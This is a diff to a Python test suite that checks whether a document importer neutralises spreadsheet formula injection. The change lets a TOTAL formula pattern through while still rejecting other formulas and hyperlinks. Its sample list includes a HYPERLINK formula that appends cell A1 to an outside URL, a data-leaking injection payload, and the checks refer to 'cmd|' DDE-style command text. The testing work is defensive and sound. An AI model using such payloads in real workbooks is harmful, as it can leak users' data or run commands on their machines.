@@ -8,6 +8,7 @@ import openpyxl
 
 from ledger import Failed, require
 from pages import Page
+from workbooks import TOTAL
 
 STATEMENTS = [
     '=HYPERLINK("https://example.org/?"&A1,"Open me")',
@@ -47,7 +48,7 @@ def proofs(plait, folder):
     source, program = Path(folder) / "hostile.docx", Path(folder) / "hostile.iet.yaml"
     make(source)
     yield "is imported", run, plait, "import", source, "-o", program
-    yield "gives a workbook without a formula", workbook_is_text, plait, program, folder
+    yield "gives a workbook without a formula of its own", workbook_is_text, plait, program, folder
     yield "gives a CSV in which no cell begins a formula", csv_is_text, plait, program, folder
     yield "gives pages in which its tags are words", page_is_text, plait, program, folder
 
@@ -59,7 +60,9 @@ def workbook_is_text(plait, program, folder):
     for sheet in openpyxl.load_workbook(path).worksheets:
         for row in sheet.iter_rows():
             for cell in row:
-                require(cell.data_type != "f", f"{cell.coordinate} is the formula {cell.value}")
+                require(
+                    cell.data_type != "f" or TOTAL.fullmatch(cell.value),
+                    f"{cell.coordinate} is the formula {cell.value}")
                 require(cell.hyperlink is None, f"{cell.coordinate} is a link")
                 texts.append(str(cell.value))
     require(any("cmd|" in text for text in texts), "the words of the second objective are not in the workbook")
